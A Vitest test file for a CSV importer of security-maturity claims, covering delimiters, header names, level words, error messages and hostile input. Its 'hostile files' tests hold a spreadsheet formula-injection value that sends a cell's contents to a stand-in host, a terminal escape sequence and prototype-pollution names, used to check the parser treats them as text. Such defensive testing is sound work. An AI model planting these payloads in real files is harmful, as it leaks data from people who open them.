import { describe, expect, test } from 'vitest';
import { QUESTIONS } from '../../tests/support/questions.ts';
import type { Claim, ReadClaims } from './claim.ts';
import { looksLikeCsv, readCsv } from './csv.ts';

function read(text: string): ReadClaims {
  return readCsv(text, QUESTIONS);
}

function claim(rest: Partial<Claim>): Claim {
  return {
    line: 2,
    about: 'testing.rate-limits',
    claimed: 'established',
    written: 'yes',
    owner: null,
    date: null,
    expires: null,
    note: null,
    via: null,
    ...rest,
  };
}

function claimsIn(text: string): readonly Claim[] {
  const result = read(text);
  if (result.kind === 'faulty') throw new Error(JSON.stringify(result.faults));
  return result.claims;
}

/** Faults as they are printed behind the name of the file. */
function faultsIn(text: string): readonly string[] {
  const result = read(text);
  return result.kind === 'faulty' ? result.faults.map(({ line, message }) => `${line} ${message}`) : [];
}

test.each([
  ['commas', 'activity,level\ntesting.rate-limits,yes\n', [claim({})]],
  ['semicolons', 'activity;level\ntesting.rate-limits;yes', [claim({})]],
  ['tabs', 'activity\tlevel\ntesting.rate-limits\tyes', [claim({})]],
  ['an empty cell between tabs', 'note\tactivity\tlevel\n\ttesting.rate-limits\tyes', [claim({})]],
  ['a byte order mark', '\uFEFFactivity,level\ntesting.rate-limits,yes', [claim({})]],
  ['line ends of Windows', 'activity,level\r\ntesting.rate-limits,yes\r\n', [claim({})]],
  ['line ends of old Macs', 'activity,level\rtesting.rate-limits,yes\r', [claim({})]],
  ['the hint of Excel', 'sep=;\r\nactivity;level\r\ntesting.rate-limits;yes', [claim({ line: 3 })]],
  ['columns in another order', 'Claimed Level,Question-ID\nyes,testing.rate-limits', [claim({})]],
  ['spaces around cells', 'id , level\n testing.rate-limits , "yes" ', [claim({})]],
  ['another letter case', 'ID,LEVEL\nTesting.Rate-Limits,yes', [claim({})]],
  ['blank rows', '\n,\nid,level\n\n,,\ntesting.rate-limits,yes\n\n', [claim({ line: 6 })]],
  [
    'line breaks in a cell',
    'id,note,level\ntesting.rate-limits,"one\n\n""two"", three",yes\ntesting.authn-bypass,,1',
    [
      claim({ note: 'one\n\n"two", three' }),
      claim({ line: 5, about: 'testing.authn-bypass', claimed: 'emerging', written: '1' }),
    ],
  ],
  [
    'everything that can be said',
    'control,maturity,team,assessed on,valid until,comment,evidence\nstage3.practices.documents-readily,"0,5",Shop,2026-03-31,2027-03-31,a,b',
    [
      claim({
        about: 'stage3.practices.documents-readily',
        claimed: 0.5,
        written: '0,5',
        owner: 'Shop',
        date: '2026-03-31',
        expires: '2027-03-31',
        note: 'a\nb',
      }),
    ],
  ],
])('reads %s', (_what, text, claims) => {
  expect(claimsIn(text)).toEqual(claims);
});

test('answers without a level are set aside, and unread columns are named', () => {
  expect(read('id,level,owner,Priority\ntesting.rate-limits,,Shop,1\ntesting.authn-bypass,n/a,,2')).toEqual({
    kind: 'read',
    format: 'csv',
    claims: [],
    setAside: [
      { line: 2, name: 'testing.rate-limits', owner: 'Shop', written: '', why: 'no-answer' },
      { line: 3, name: 'testing.authn-bypass', owner: null, written: 'n/a', why: 'not-applicable' },
    ],
    ignored: ['Priority'],
  });
});

const QUOTES =
  'the row that begins here has a quote inside a cell; a cell with quotes is quoted as a whole, with "" for each of them';
const ACTIVITY_LEVELS =
  'non-existent (none, no, 0), emerging (partial, 1), established (yes, full, implemented, 2, 3), n/a';

test.each([
  [
    'an id that is nearly right',
    'id,level\ntesting.rate-limit,yes',
    ['2 no activity or measure is called "testing.rate-limit"; the nearest is testing.rate-limits'],
  ],
  [
    'words that nobody agreed on, all of them',
    'id,level\ntesting.rate-limits,mostly\n\ntesting.authn-bypass,4',
    [
      `2 level "mostly" is not known; accepted: ${ACTIVITY_LEVELS}`,
      `4 level "4" is not known; accepted: ${ACTIVITY_LEVELS}`,
    ],
  ],
  [
    'a level of the wrong scale',
    'id,level\nstage3.practices.documents-readily,2',
    ['2 level "2" is not known; accepted: 0 (none, no), 0.5 (partial), 1 (yes, full, implemented), n/a'],
  ],
  [
    'several things in one row',
    'id,level,date,expires\ntesting.rate-limits,eh,1/2/2026,never',
    [
      `2 level "eh" is not known; accepted: ${ACTIVITY_LEVELS}`,
      '2 date "1/2/2026" is not of the form 2026-03-31',
      '2 expiry date "never" is not of the form 2026-03-31',
    ],
  ],
  ['a row without an activity', 'id,level\n,yes', ['2 no activity is named']],
  [
    'a separator in a cell without quotes',
    'id,level\ntesting.rate-limits,yes,but',
    ['2 3 cells where the header has 2; quote a cell that holds the separator'],
  ],
  [
    'a quote that is never closed',
    'id,level\n"testing.rate-limits,yes\nx,no',
    ['2 the row that begins here has a quote that is never closed'],
  ],
  ['a quote inside a cell', 'id,level\ntesting.rate-limits,y"es"', [`2 ${QUOTES}`]],
  ['text after a quoted cell', 'id,level\n"testing.rate-limits"x,yes', [`2 ${QUOTES}`]],
  ['no header', 'testing.rate-limits,yes', [expect.stringContaining('1 no column says the activity')]],
  ['no level', 'activity,title\ntesting.rate-limits,x', [expect.stringContaining('1 no column says the level')]],
  [
    'two columns of one meaning',
    'id,activity,level\n1,testing.rate-limits,yes',
    ['1 columns "id" and "activity" both say the activity: keep one'],
  ],
  ['nothing', '', ['1 the file is empty']],
  ['a header alone', 'id,level\n', ['1 the file holds no claim']],
])('a file is refused for %s', (_what, text, faults) => {
  expect(faultsIn(text)).toEqual(faults);
});

describe('hostile files', () => {
  test('a formula is text in a note, and no level', () => {
    const note = `=HYPERLINK("http://x.test?"&A1)`;
    expect(claimsIn(`id,level,note\ntesting.rate-limits,yes,"${note.replaceAll('"', '""')}"`)).toEqual([
      claim({ note }),
    ]);
    expect(faultsIn('id,level\ntesting.rate-limits,=1+1')).toEqual([
      `2 level "=1+1" is not known; accepted: ${ACTIVITY_LEVELS}`,
    ]);
  });

  test('control characters stay in the note as they are: printing escapes them', () => {
    expect(claimsIn('id,level,note\ntesting.rate-limits,yes,a\u001b[2Jb\u202e')).toEqual([
      claim({ note: 'a\u001b[2Jb\u202e' }),
    ]);
  });

  test('names of the prototype are ids like any other', () => {
    expect(faultsIn('id,level\n__proto__,yes\nconstructor,yes')).toHaveLength(2);
  });

  test('100,000 rows are read, one more is not', () => {
    const row = 'testing.rate-limits,yes\n';
    expect(claimsIn(`id,level\n${row.repeat(100_000)}`)).toHaveLength(100_000);
    expect(faultsIn(`id,level\n${row.repeat(100_001)}`)).toEqual(['1 more than 100000 rows, blank ones among them']);
    expect(faultsIn(`id,level\n${'\n'.repeat(1_000_000)}`)).toEqual(['1 more than 100000 rows, blank ones among them']);
  });

  test('after a hundred faults the rest is left', () => {
    const faults = faultsIn(`id,level\n${'abc.def,perhaps\n'.repeat(100_000)}`);
    expect(faults).toHaveLength(101);
    expect(faults.at(-1)).toBe('102 this row and those below were not looked at: too much is wrong already');
  });

  test('a cell as long as a file is not quoted in full', () => {
    const [fault] = faultsIn(`id,level\n${'x'.repeat(100_000)},yes`);
    expect(fault?.length).toBeLessThan(200);
    expect(faultsIn(`id,level\n${'x'.repeat(200_000)},yes`)).toEqual([
      '2 the row that begins here has more than 131072 characters',
    ]);
  });

  test('a million cells in a row are no trouble', () => {
    expect(faultsIn(`id,level\n${','.repeat(100_000)}`)).toEqual(['1 the file holds no claim']);
  });
});

test.each([
  ['id,level\n', true],
  ['\uFEFFQuestion ID;Answer\n', true],
  ['sep=;\nid;level\n', true],
  ['progress:\n  a:\n', false],
  ['', false],
  ['"id,level', false],
])('%j begins as a table: %s', (text, expected) => {
  expect(looksLikeCsv(text)).toBe(expected);
});
